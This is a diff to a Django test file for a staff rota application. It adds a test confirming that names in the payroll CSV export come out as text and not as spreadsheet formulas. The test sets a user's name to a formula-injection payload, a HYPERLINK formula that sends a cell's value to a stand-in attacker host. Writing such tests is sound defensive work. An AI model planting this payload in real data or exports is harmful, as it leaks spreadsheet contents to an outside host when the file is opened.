@@ -1,6 +1,8 @@
 """The rota in the app: generate, review, accept into the ledger and the plan."""
 
+import csv
 import datetime as dt
+import io
 
 import pytest
 from django.core import mail
@@ -215,6 +217,24 @@ def test_payroll_csv_counts_weekend_days_worked_per_month(cast, team, lead, crew
     assert lines[0] == "month,associate_id,associate,weekend_days_worked"
     assert sum(int(line.rsplit(",", 1)[1]) for line in lines[1:]) == 8
     assert all(line.startswith(("2030-01", "2030-02")) for line in lines[1:])
+
+
+def test_a_name_that_reads_as_a_formula_comes_out_as_text_in_the_payroll_csv(
+    cast, team, lead, crew, time_machine
+):
+    person = crew[0].user
+    person.first_name = '=HYPERLINK("http://evil.example/?x="&A1'
+    person.last_name = '"click")'
+    person.save()
+    rota.accept_rota(
+        actor=lead,
+        proposal=rota.generate_rota(actor=lead, team=team, first=MONDAY, last=LAST),
+    )
+    time_machine.move_to(dt.datetime(2030, 3, 1, 12, tzinfo=dt.UTC))
+    response = client_for(lead).get(reverse("scheduling:rota-payroll", kwargs={"team_id": team.pk}))
+    names = [row[2] for row in csv.reader(io.StringIO(response.content.decode()))][1:]
+    assert any("HYPERLINK" in name for name in names)
+    assert not any(name.startswith("=") for name in names)
 
 
 def test_the_weekly_job_drafts_once_and_tells_the_lead(
